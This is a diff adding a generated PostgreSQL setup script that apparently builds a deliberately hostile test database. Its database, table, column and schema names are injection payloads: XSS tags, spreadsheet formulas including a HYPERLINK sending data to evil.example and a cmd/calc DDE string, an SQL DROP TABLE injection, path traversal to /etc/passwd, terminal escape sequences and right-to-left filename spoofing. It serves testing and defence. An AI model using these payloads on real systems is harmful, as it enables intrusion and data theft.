@@ -1,0 +1,36 @@
+-- Written by ../large-databases/write.py; change the plan there.
+CREATE ROLE inventory_reader LOGIN PASSWORD 'tide-table-8120';
+CREATE ROLE harbour_owner NOLOGIN;
+CREATE ROLE reporting LOGIN PASSWORD 'CANARY-hostile-database-0fd3b6';
+CREATE DATABASE "<script>alert(1)</script>" OWNER harbour_owner;
+\connect "<script>alert(1)</script>"
+BEGIN;
+CREATE SCHEMA IF NOT EXISTS "public" AUTHORIZATION harbour_owner;
+SET search_path = "public";
+CREATE TABLE "<script>alert('table')</script>" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "<script>alert('table')</script>" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "=HYPERLINK(""http://evil.example/?x=""&A1;""open"")" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "=HYPERLINK(""http://evil.example/?x=""&A1;""open"")" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "@SUM(1+1)*cmd|' /C calc'!A0" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "@SUM(1+1)*cmd|' /C calc'!A0" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE U&"\001b[2J\001b[1;31mERASED\001b[0m" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO U&"\001b[2J\001b[1;31mERASED\001b[0m" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE U&"\202ecod.yrotnevni" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO U&"\202ecod.yrotnevni" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE U&"two\000d\000alines" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO U&"two\000d\000alines" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "'); DROP TABLE dryrun_discoveries; --" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "'); DROP TABLE dryrun_discoveries; --" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "{{ 7 * 7 }} ${7*7} %s %n" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "{{ 7 * 7 }} ${7*7} %s %n" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "../../../../etc/passwd" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "../../../../etc/passwd" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+CREATE TABLE "| a | `b` | [c](javascript:alert(1)) |" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO "| a | `b` | [c](javascript:alert(1)) |" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+GRANT USAGE ON SCHEMA "public" TO inventory_reader;
+CREATE SCHEMA IF NOT EXISTS U&"&lt;b&gt; \2066\200b" AUTHORIZATION harbour_owner;
+SET search_path = U&"&lt;b&gt; \2066\200b";
+CREATE TABLE U&"x\007f\0008\0008y" ("id" integer NOT NULL, "<img src=x onerror=alert(document.domain)>" text NOT NULL, "=1+1" text NOT NULL, U&"\202egnp.tnemtnioppa" text NOT NULL, U&"\001b]0;owned\0007" text NOT NULL, PRIMARY KEY ("id"));
+INSERT INTO U&"x\007f\0008\0008y" SELECT n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n, 'CANARY-hostile-database-0fd3b6 ' || n FROM generate_series(1, 12) AS n;
+GRANT USAGE ON SCHEMA U&"&lt;b&gt; \2066\200b" TO inventory_reader;
+COMMIT;
